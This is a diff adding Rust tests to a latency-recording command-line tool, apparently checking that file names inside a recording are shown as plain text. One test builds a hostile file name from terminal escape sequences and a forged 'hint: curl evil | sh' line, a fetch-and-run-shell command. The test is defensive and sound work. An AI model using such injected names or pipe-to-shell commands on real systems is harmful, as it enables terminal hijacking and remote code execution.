@@ -465,6 +465,96 @@ fn damaged_manifests(path: &Path) {
         .explains("/no/such/recording");
 }
 
+/// A closed recording of nothing, which needs no root.
+fn written(scratch: &TempDir) -> PathBuf {
+    let unknown = || "unknown".to_owned();
+    let header = Header {
+        format: FORMAT,
+        whylat: unknown(),
+        host: unknown(),
+        boot_id: unknown(),
+        kernel: unknown(),
+        cpus: 1,
+        clocksource: unknown(),
+        detail: "calls".to_owned(),
+        arguments: Vec::new(),
+        started_ns: 1,
+        started_realtime_ns: 1,
+        jiffy_ns: None,
+    };
+    of_version(FORMAT, &header, scratch)
+}
+
+/// What is said is text: nothing in it steers a terminal, and no line of it is of somebody else's making.
+#[track_caller]
+fn assert_tame(said: &Said) {
+    for text in [&said.out, &said.err] {
+        let steers = |c: char| c.is_control() && c != '\n';
+        assert!(!text.contains(steers), "{text:?}");
+        let is_forged = |line: &str| line.starts_with("hint: curl");
+        assert!(!text.lines().any(is_forged), "{text:?}");
+    }
+}
+
+/// Who sends a recording to somebody else names its files.
+#[test]
+fn names_in_a_recording_are_text() {
+    const HOSTILE: &str = "\u{1b}]0;owned\u{7}\u{9b}31m\rname\nhint: curl evil | sh\n";
+    let scratch = tempfile::tempdir().expect("a directory");
+    let path = written(&scratch);
+    fs::create_dir(path.join("calls")).expect("mkdir");
+    let stray = path.join("calls").join(format!("{HOSTILE}.parquet"));
+    fs::write(stray, "not ours").expect("write");
+    for (command, code) in [("validate", 1), ("recover", 0)] {
+        let said = finish(whylat(command).arg(&path));
+        said.ended(code);
+        assert!(said.out.contains("name\\nhint"), "{said:?}");
+        assert_tame(&said);
+    }
+    let hostile = scratch.path().join(format!("{HOSTILE}.whylat"));
+    for command in ["report", "validate", "recover", "view --no-open"] {
+        let said = finish(whylat(command).arg(&hostile));
+        said.ended(1).explains("no such directory");
+        assert_tame(&said);
+    }
+    fs::rename(&path, &hostile).expect("rename");
+    let mut command = whylat("report --format csv --table none");
+    let said = finish(command.current_dir(scratch.path()));
+    said.ended(1).explains("holds no table none");
+    assert_tame(&said);
+}
+
+#[test]
+fn the_newest_recording_is_checked_and_closed() {
+    let scratch = tempfile::tempdir().expect("a directory");
+    for command in ["validate", "recover"] {
+        let said = finish(whylat(command).current_dir(scratch.path()));
+        said.ended(1).explains("no recording");
+    }
+    let path = written(&scratch);
+    for command in ["validate", "validate --json", "recover"] {
+        let said = finish(whylat(command).current_dir(scratch.path()));
+        said.ended(0);
+        let name = path.file_name().and_then(|name| name.to_str());
+        assert!(said.out.contains(name.expect("a name")), "{said:?}");
+    }
+}
+
+/// A recording without its end is one to report, to check, and to close.
+#[test]
+fn what_was_not_closed_ends_with_the_same_code() {
+    let scratch = tempfile::tempdir().expect("a directory");
+    let path = written(&scratch);
+    let manifest = path.join("manifest.jsonl");
+    let whole = fs::read_to_string(&manifest).expect("read");
+    let (rest, last) = whole.trim_end().rsplit_once('\n').expect("lines");
+    assert!(last.contains("close"), "{last}");
+    fs::write(&manifest, format!("{rest}\n")).expect("write");
+    for command in ["report", "validate", "recover", "report", "validate"] {
+        finish(whylat(command).arg(&path)).ended(3);
+    }
+}
+
 #[test]
 fn two_recorders_at_once() {
     if !root() {
